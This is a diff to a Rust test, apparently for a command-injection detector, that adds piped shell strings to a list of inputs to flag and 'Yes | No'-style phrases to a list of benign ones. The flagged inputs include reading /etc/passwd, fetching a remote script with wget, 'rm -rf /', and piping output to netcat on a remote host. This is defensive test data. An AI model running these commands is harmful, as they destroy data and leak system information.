@@ -305,6 +305,10 @@ fn a_lone_ampersand_pairs_names_unless_a_command_follows_it() {
             "id & cat /etc/passwd",
             "bash & wget http://x.example/s.sh",
             "ls & whoami",
+            "id | base64",
+            "yes | rm -rf /",
+            "ls | nc 10.0.0.1 4444",
+            "whoami | tee",
         ],
         &[
             "Tom & Jerry",
@@ -325,6 +329,8 @@ fn a_lone_ampersand_pairs_names_unless_a_command_follows_it() {
             "Find & replace",
             "Date & Time",
             "Copy & Paste",
+            "Yes | No",
+            "Find | Replace",
         ],
     );
 }
